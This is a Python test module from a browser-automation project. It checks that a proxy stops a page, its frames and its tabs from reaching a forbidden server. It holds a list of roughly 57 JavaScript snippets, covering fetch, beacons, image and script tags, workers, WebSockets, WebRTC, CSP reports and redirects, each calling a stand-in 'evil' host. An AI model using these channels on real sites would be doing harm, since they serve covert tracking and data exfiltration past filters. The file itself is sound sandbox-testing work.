"""Every way that a page has to ask for something: none may arrive where the run may not go.

    python -m clickwright.reliability channels

By HTTP and HTTPS, in the page itself, in a frame of it and in a tab that it opens; with the proxy, and without it to
show that the forbidden place would have seen them.
"""

import asyncio
from dataclasses import dataclass
from typing import Literal

from ..environments.browser.environment import BrowserEnvironment
from ..environments.browser.launch import Chromium
from ..environments.environment import Destination
from ..environments.playwright_api.environment import PlaywrightEnvironment
from ..tools import Task
from .figure import Figure
from .web import Answer, Web

Place = Literal["page", "frame", "tab"]
PLACES: tuple[Place, ...] = ("page", "frame", "tab")
TRUSTING = "--ignore-certificate-errors"
"""For the certificates that the servers here make for themselves."""
LEAST = 33
QUIET_S = 1.0
"""Longer than any channel waits before it asks."""
LONGEST_S = 12.0

CHANNELS = {
    "fetch": "fetch('{evil}/')",
    "fetch, no cors": "fetch('{evil}/', {mode: 'no-cors', method: 'POST', body: 'x'})",
    "fetch, redirected": "fetch('{via}/', {mode: 'no-cors'})",
    "request": "let r = new XMLHttpRequest; r.open('GET', '{evil}/'); r.send()",
    "beacon": "navigator.sendBeacon('{evil}/', 'x')",
    "keepalive": "fetch('{evil}/', {mode: 'no-cors', keepalive: true})",
    "picture": "new Image().src = '{evil}/x.png'",
    "picture, redirected": "new Image().src = '{via}/x.png'",
    "picture set": "add('img', {srcset: '{evil}/x.png 1x'})",
    "video": "add('video', {src: '{evil}/x.mp4', autoplay: ''})",
    "poster": "add('video', {poster: '{evil}/x.png'})",
    "audio": "add('audio', {src: '{evil}/x.mp3', autoplay: ''})",
    "track": "add('video', {}).append(make('track', {src: '{evil}/x.vtt', default: ''}))",
    "script": "add('script', {src: '{evil}/x.js'})",
    "script, redirected": "add('script', {src: '{via}/x.js'})",
    "module": "import('{evil}/x.js').catch(() => 0)",
    "style": "add('link', {rel: 'stylesheet', href: '{evil}/x.css'})",
    "style, imported": "add('style', {}).textContent = '@import url({evil}/x.css)'",
    "background": "add('p', {style: 'background: url({evil}/x.png)'}).textContent = 'x'",
    "font": "add('style', {}).textContent = '@font-face {font-family: e; src: url({evil}/x.woff)} i {font-family: e}';"
    " add('i', {}).textContent = 'x'",
    "frame": "add('iframe', {src: '{evil}/'})",
    "frame, redirected": "add('iframe', {src: '{via}/'})",
    "frame, refreshed": "add('iframe', {srcdoc: '<meta http-equiv=refresh content=\"0;url={evil}/\">'})",
    "frame of data": "add('iframe', {src: 'data:text/html,<img src={evil}/x.png>'})",
    "object": "add('object', {data: '{evil}/x.svg', type: 'image/svg+xml'})",
    "embed": "add('embed', {src: '{evil}/x.svg', type: 'image/svg+xml'})",
    "icon": "add('link', {rel: 'icon', href: '{evil}/x.ico'})",
    "prefetch": "add('link', {rel: 'prefetch', href: '{evil}/'})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: '{evil}/x.png'})",
    "module, preloaded": "add('link', {rel: 'modulepreload', href: '{evil}/x.js'})",
    "connection": "add('link', {rel: 'preconnect', href: '{evil}/'})",
    "speculation": "add('script', {type: 'speculationrules'}).textContent = "
    "JSON.stringify({prerender: [{source: 'list', urls: ['{evil}/']}]})",
    "manifest": "add('link', {rel: 'manifest', href: '{evil}/x.json'})",
    "events": "new EventSource('{evil}/')",
    "socket": "new WebSocket('{evil}/'.replace('http', 'ws'))",
    "transport": "try { new WebTransport('{evil}/'.replace('http:', 'https:')) } catch {}",
    "worker": "new Worker(own(`fetch('{evil}/', {mode: 'no-cors'})`))",
    "shared worker": "new SharedWorker(own(`fetch('{evil}/', {mode: 'no-cors'})`))",
    "worker, importing": "new Worker(own(`importScripts('{evil}/x.js')`))",
    "form": "let f = add('form', {action: '{evil}/', method: 'post', target: 'inner'});"
    " add('iframe', {name: 'inner'}); f.submit()",
    "ping": "let a = add('a', {href: '#', ping: '{evil}/'}); a.click()",
    "new window": "window.open('{evil}/')",
    "new window, redirected": "window.open('{via}/')",
    "peer": "let p = new RTCPeerConnection({iceServers: [{urls: '{stun}'}]}); p.createDataChannel('x');"
    " p.createOffer().then((o) => p.setLocalDescription(o))",
    "report": "add('iframe', {srcdoc: '<meta http-equiv=Content-Security-Policy content=\"img-src none;"
    " report-uri {evil}/\"><img src=/x.png>'})",
    "drawing": "add('p', {}).innerHTML = '<svg><image href=\"{evil}/x.png\"/><use href=\"{evil}/x.svg#a\"/></svg>'",
    "picture, chosen": "add('picture', {}).append(make('source', {srcset: '{evil}/x.png'}), make('img', {}))",
    "picture of a button": "add('input', {type: 'image', src: '{evil}/x.png'})",
    "mask": "add('p', {style: 'mask: url({evil}/x.svg#a)'}).textContent = 'x'",
    "bullet": "add('ul', {style: 'list-style: url({evil}/x.png)'}).append(make('li', {}))",
    "socket of a worker": "new Worker(own(`new WebSocket('{evil}/'.replace('http', 'ws'))`))",
    "request of a worker": "new Worker(own(`let r = new XMLHttpRequest; r.open('GET', '{evil}/'); r.send()`))",
    "service worker": "navigator.serviceWorker?.register('{worker}')",
    "worklet": "CSS.paintWorklet?.addModule('{evil}/x.js').catch(() => 0)",
    "form of a new window": "let f = add('form', {action: '{evil}/', target: '_blank'}); f.submit()",
    "frame of a blob": "add('iframe', {src: URL.createObjectURL(new Blob(['<img src={evil}/x.png>'],"
    " {type: 'text/html'}))})",
    "the page around": "if (top !== self) setTimeout(() => top.location = '{evil}/', 700)",
    "the page itself": "setTimeout(() => location = '{evil}/', 800)",
}
TOOLS = """
const make = (kind, given) => { let e = document.createElement(kind);
  for (let name in given) e.setAttribute(name, given[name]); return e; };
const add = (kind, given) => document.body.appendChild(make(kind, given));
const own = (code) => URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));
"""
"""What the channels are written with."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Tried:
    """What came of one page that tried every channel.

    `arrived` names the channels that the forbidden place saw, `connections` and `datagrams` count all that came to it,
    `refused` what the proxy refused to it.
    """

    arrived: frozenset[str]
    connections: int
    datagrams: int
    refused: int

    @property
    def leaked(self) -> int:
        return self.connections + self.datagrams


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.count = 0

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.count += 1


async def tried(
    environment: BrowserEnvironment | PlaywrightEnvironment, place: Place, *, secure: bool, confined: bool
) -> Tried:
    """Open a page that tries every channel, wait until nothing more comes, and close the environment."""
    refused: list[Destination] = []
    loop = asyncio.get_running_loop()
    transport, datagrams = await loop.create_datagram_endpoint(_Datagrams, local_addr=("127.0.0.1", 0))
    async with Web(secure=secure) as good, Web(secure=secure) as evil:

        def judge(to: Destination) -> str:
            if to.host == "127.0.0.1" and to.port == good.port:
                return ""
            refused.append(to)
            return "it is not of this run"

        if confined:
            environment.confine(judge)
        url = _holding(good, _page(good, evil, int(transport.get_extra_info("sockname")[1])), place)
        await environment.reset(Task(goal="look", start_url=url))
        await _quiet(evil, refused)
        await environment.close()
        numbers = {one.path.split("/")[1] for one in evil.asked}
        arrived = frozenset(name for number, name in enumerate(CHANNELS) if str(number) in numbers)
        transport.close()
        to_evil = sum(to.port == evil.port for to in refused)
        return Tried(arrived=arrived, connections=evil.connections, datagrams=datagrams.count, refused=to_evil)


def _page(good: Web, evil: Web, stun_port: int) -> str:
    """The URL of a page that tries every way; each asks for a path of its own."""
    codes: list[str] = []
    for number, code in enumerate(CHANNELS.values()):
        there = evil.url(f"/{number}")
        for path in ("", "x.png", "x.js"):
            good.redirect(f"/away/{number}/{path}", f"{there}/{path}")
        worker = f"fetch('{there}/', {{mode: 'no-cors'}})"
        good.answers[f"/worker/{number}"] = Answer(body=worker, kind="text/javascript")
        where = {
            "{evil}": there,
            "{via}": good.url(f"/away/{number}"),
            "{worker}": f"/worker/{number}",
            "{stun}": f"stun:127.0.0.1:{stun_port}",
        }
        for mark, url in where.items():
            code = code.replace(mark, url)
        codes.append(f"try {{ (() => {{ {code} }})() }} catch (e) {{ console.log(e) }}")
    return good.put(f"<script>{TOOLS} window.onload = () => {{ {' '.join(codes)} }}</script>", "/hostile")


def _holding(good: Web, url: str, place: Place) -> str:
    match place:
        case "page":
            return url
        case "frame":
            return good.put(f"<iframe src='{url}' width=600 height=400></iframe>", "/around")
        case "tab":
            return good.put(f"<script>window.onload = () => window.open('{url}')</script>", "/around")


async def _quiet(evil: Web, refused: list[Destination]) -> None:
    """Until nothing was asked for a while."""
    loop = asyncio.get_running_loop()
    until, last, since = loop.time() + LONGEST_S, -1, loop.time()
    while loop.time() < until:
        count = evil.connections + len(evil.asked) + len(refused)
        if count != last:
            last, since = count, loop.time()
        elif loop.time() - since > QUIET_S:
            return
        await asyncio.sleep(0.05)


async def _tried(chromium: Chromium, place: Place, *, secure: bool, confined: bool) -> Tried:
    return await tried(BrowserEnvironment(chromium=chromium), place, secure=secure, confined=confined)


async def _figures() -> list[Figure]:
    found: list[Figure] = []
    async with Chromium(arguments=(TRUSTING,)) as chromium:
        for secure in (False, True):
            kept = [await _tried(chromium, place, secure=secure, confined=True) for place in PLACES]
            free = [await _tried(chromium, place, secure=secure, confined=False) for place in PLACES]
            by = "HTTPS" if secure else "HTTP"
            leaked, refused = sum(one.leaked for one in kept), min(one.refused for one in kept)
            where = f"{len(CHANNELS)} channels by {by} in page, frame and tab"
            found.append(Figure(name=f"{where}: arrived", found=str(leaked), bar="0", holds=leaked == 0))
            found.append(Figure(name=f"{where}: refused, least", found=str(refused), bar="> 30", holds=refused > 30))
            least = min(len(one.arrived) for one in free)
            found.append(
                Figure(
                    name=f"{where}: arrived without the proxy, least",
                    found=str(least),
                    bar=f">= {LEAST}",
                    holds=least >= LEAST,
                )
            )
    return found


def figures(nightly: bool) -> list[Figure]:
    """What arrives at a forbidden place, with the proxy and without it. The same by day and by night."""
    return asyncio.run(_figures())
